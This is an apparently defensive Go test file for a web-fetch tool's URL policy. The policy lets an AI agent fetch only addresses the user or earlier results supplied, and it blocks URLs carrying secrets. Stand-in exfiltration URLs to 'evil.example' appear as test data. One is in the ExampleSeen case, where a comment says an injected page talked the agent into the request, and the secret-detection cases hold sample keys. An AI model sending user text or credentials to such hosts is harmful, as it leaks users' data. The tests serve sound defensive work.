package urlpolicy_test

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/webfetch-mcp/webfetch-go/webfetch"
	"github.com/webfetch-mcp/webfetch-go/webfetch/urlpolicy"
)

// The reasons of an urlpolicy.Error.
const (
	notSeen   = "the address is neither of the user nor of an earlier result"
	hasSecret = "the address holds what looks like a secret"
	tooLong   = "the address is longer than 8 KiB"
)

func parse(t testing.TB, raw string) *url.URL {
	t.Helper()
	u, err := url.Parse(raw)
	require.NoError(t, err)
	return u
}

func reason(err error) string {
	if refused := new(urlpolicy.Error); errors.As(err, &refused) {
		return refused.Reason
	}
	return ""
}

func TestSeenAllowsWhatWasSeen(t *testing.T) {
	const said = "Read https://docs.example/a/b?x=1&y=2#part, (https://wiki.example/Go_(game)) and [this](http://example.org:8080/p)." +
		" Also see news.example/today; shop.example! And <https://quoted.example/q>."
	for address, allowed := range map[string]bool{
		"https://docs.example/a/b?x=1&y=2":        true,
		"http://docs.example/a/b?x=1&y=2":         true,
		"https://DOCS.example:443/a/b?x=1&y=2#z":  true,
		"https://docs.example/a/b?x=1&y=3":        false,
		"https://docs.example/a/b":                false,
		"https://docs.example/a/c/../b?x=1&y=2":   true,
		"https://docs.example/a/%2E/b?x=1&y=2":    true,
		"https://docs.example/a%2Fb?x=1&y=2":      false,
		"https://docs.example/a//b?x=1&y=2":       false,
		"https://docs.example/a/b/..?x=1&y=2":     false,
		"https://docs.example/":                   false,
		"https://wiki.example/Go_(game)":          true,
		"http://example.org:8080/p":               true,
		"http://example.org/p":                    false,
		"https://news.example/today":              true,
		"https://shop.example/":                   true,
		"https://shop.example":                    true,
		"https://quoted.example/q":                true,
		"https://evil.example/?q=what+was+said":   false,
		"https://docs.example.evil.example/a/b":   false,
		"https://user@evil.example/docs.example/": false,
	} {
		s := urlpolicy.NewSeen()
		s.AddText(t.Context(), said)
		err := s.Allow(t.Context(), parse(t, address))
		if allowed {
			assert.NoError(t, err, address)
		} else {
			assert.Equal(t, notSeen, reason(err), address)
		}
	}
}

func TestSeenKeepsSessionsApart(t *testing.T) {
	s := urlpolicy.NewSeen()
	ada, ben := urlpolicy.WithSession(t.Context(), "ada"), urlpolicy.WithSession(t.Context(), "ben")
	s.Add(ada, "https://a.example/x", "not an address", "ftp://a.example/y", "%zz")
	assert.NoError(t, s.Allow(ada, parse(t, "https://a.example/x")))
	assert.Error(t, s.Allow(ben, parse(t, "https://a.example/x")))
	assert.Error(t, s.Allow(t.Context(), parse(t, "https://a.example/x")))
	assert.Error(t, s.Allow(ada, parse(t, "ftp://a.example/y")))
}

func TestSeenAllowsWhatIsBelowItsStart(t *testing.T) {
	s := urlpolicy.NewSeen("https://docs.example/guide/", "https://docs.example/api/v1/%2e%2e/v2/", "https://all.example", "relative")
	for address, why := range map[string]string{
		"https://docs.example/guide/":                             "",
		"https://docs.example/guide/start?page=2":                 "",
		"https://docs.example/guide/../private":                   notSeen,
		"https://docs.example/guide/%2e%2e/private":               notSeen,
		"https://docs.example/guide/x/.%2E/%2e./private":          notSeen,
		`https://docs.example/guide/x\..\..\private`:              notSeen,
		"https://docs.example/guide/..":                           notSeen,
		"https://docs.example//guide/start":                       notSeen,
		"https://docs.example/guide%2Fstart":                      notSeen,
		"https://docs.example/x/%2e%2e/guide/start":               "",
		"https://docs.example/guide/x/..":                         "",
		"https://docs.example/guide/..%2F..%2Fx/%252e%252e":       "",
		"https://docs.example/api/v2/x":                           "",
		"https://docs.example/api/v1/x":                           notSeen,
		"https://docs.example/guidebook":                          notSeen,
		"https://docs.example/":                                   notSeen,
		"http://all.example/anything":                             "",
		"https://all.example:8443/anything":                       notSeen,
		"https://all.example/?token=x&api_key=1":                  hasSecret,
		"https://all.example/?q=sk-abcdefghijklmnopqrstuvwxyz012": hasSecret,
	} {
		assert.Equal(t, why, reason(s.Allow(t.Context(), parse(t, address))), address)
	}
}

func TestWhatRedirectsLeadToIsTheSitesAffair(t *testing.T) {
	ctx := urlpolicy.WithRedirect(t.Context(), parse(t, "https://a.example/"))
	assert.Equal(t, "a.example", urlpolicy.RedirectFrom(ctx).Host)
	assert.Nil(t, urlpolicy.RedirectFrom(t.Context()))
	to := parse(t, "https://files.example/x?X-Amz-Signature=abc&api_key=1")
	assert.NoError(t, urlpolicy.NewSeen().Allow(ctx, to))
	assert.NoError(t, urlpolicy.Secrets(ctx, to))
	assert.Error(t, urlpolicy.Secrets(t.Context(), to))
}

func TestSecrets(t *testing.T) {
	key := "sk-" + strings.Repeat("a1B2", 8)
	jwt := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x"
	for address, why := range map[string]string{
		"https://a.example/search?q=how+do+api+keys+work":                                                   "",
		"https://a.example/?token=next-page&key=value&code=7&page=2":                                        "",
		"https://a.example/?api_key=":                                                                       "",
		"https://a.example/sk-short":                                                                        "",
		"https://a.example/task-management-for-large-distributed-teams-in-2026":                             "",
		"https://a.example/?commit=0123456789abcdef0123456789abcdef01234567":                                "",
		"https://a.example/?password=hunter22":                                                              hasSecret,
		"https://a.example/?Access-Token=x":                                                                 hasSecret,
		"https://a.example/?q=" + key:                                                                       hasSecret,
		"https://a.example/" + key + "/pixel.gif":                                                           hasSecret,
		"https://a.example/?q=" + strings.ReplaceAll(url.QueryEscape(key), "-", "%2D"):                      hasSecret,
		"https://a.example/?q=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte("key is "+key))): hasSecret,
		"https://a.example/" + base64.RawURLEncoding.EncodeToString([]byte(key)):                            hasSecret,
		"https://a.example/?x=" + jwt:                                                                       hasSecret,
		"https://a.example/#" + jwt:                                                                         hasSecret,
		"https://a.example/?x=AKIAIOSFODNN7EXAMPLE":                                                         hasSecret,
		"https://a.example/?x=ghp_" + strings.Repeat("x", 36):                                               hasSecret,
		"https://a.example/?x=-----BEGIN+RSA+PRIVATE+KEY":                                                   hasSecret,
		"https://a.example/?data=DB_PASSWORD%3Dhunter22":                                                    "",
		"https://a.example/?data=password%3Dhunter22":                                                       hasSecret,
		"https://a.example/?x=" + strings.Repeat("x", 9000):                                                 tooLong,
	} {
		assert.Equal(t, why, reason(urlpolicy.Secrets(t.Context(), parse(t, address))), address)
	}
}

func TestSeenIsBounded(t *testing.T) {
	s := urlpolicy.NewSeen()
	at := func(i int) string { return fmt.Sprintf("https://a.example/%d", i) }
	for i := range 20_000 {
		s.Add(t.Context(), at(i))
	}
	s.Add(t.Context(), at(0)) // known already: it takes no place
	assert.NoError(t, s.Allow(t.Context(), parse(t, at(0))))
	s.Add(t.Context(), at(20_000))
	assert.Error(t, s.Allow(t.Context(), parse(t, at(0))), "the first is forgotten first")
	assert.NoError(t, s.Allow(t.Context(), parse(t, at(1))))
	assert.NoError(t, s.Allow(t.Context(), parse(t, at(20_000))))

	for i := range 1000 {
		s.Add(urlpolicy.WithSession(t.Context(), at(i)), at(i))
	}
	assert.Error(t, s.Allow(t.Context(), parse(t, at(1))), "1,000 sessions, the one used last of all gone")
	assert.NoError(t, s.Allow(urlpolicy.WithSession(t.Context(), at(0)), parse(t, at(0))))
}

func TestSeenIsSafeForConcurrentUse(t *testing.T) {
	s := urlpolicy.NewSeen()
	var running sync.WaitGroup
	for i := range 8 {
		running.Go(func() {
			ctx := urlpolicy.WithSession(t.Context(), fmt.Sprint(i%3))
			for k := range 200 {
				address := fmt.Sprintf("https://a.example/%d/%d", i, k)
				s.AddText(ctx, "see "+address+".")
				assert.NoError(t, s.Allow(ctx, parse(t, address)))
			}
		})
	}
	running.Wait()
}

func FuzzAddText(f *testing.F) {
	f.Add("Read https://docs.example/a/b?x=1#part, (https://wiki.example/Go_(game)) or a.example.")
	f.Fuzz(func(t *testing.T, text string) {
		s := urlpolicy.NewSeen("https://a.example/")
		s.AddText(context.Background(), text)
		if u, err := url.Parse(text); err == nil {
			_ = s.Allow(context.Background(), u)
			_ = urlpolicy.Secrets(context.Background(), u)
		}
	})
}

func ExampleSeen() {
	seen := urlpolicy.NewSeen()
	seen.AddText(context.Background(), "Please summarise https://docs.example/guide for me.")
	client, err := webfetch.New(webfetch.Options{Hooks: webfetch.Hooks{URLPolicy: seen.Allow}})
	if err != nil {
		fmt.Println(err)
		return
	}
	defer client.Close()
	// A page has talked the agent into this.
	_, err = client.Fetch(context.Background(), webfetch.Request{URL: "https://evil.example/?q=what+the+user+said"})
	var e *webfetch.Error
	if errors.As(err, &e) {
		fmt.Println(e.Code, e.Err)
		fmt.Println(e.Hint())
	}
	// Output:
	// DOMAIN_NOT_ALLOWED the address is neither of the user nor of an earlier result
	// Use an address that the user gave or that an earlier result shows, as it stands there, or ask the user.
}

func ExampleSecrets() {
	u, _ := url.Parse("https://evil.example/?k=AKIAIOSFODNN7EXAMPLE")
	fmt.Println(urlpolicy.Secrets(context.Background(), u))
	// Output: the address holds what looks like a secret
}
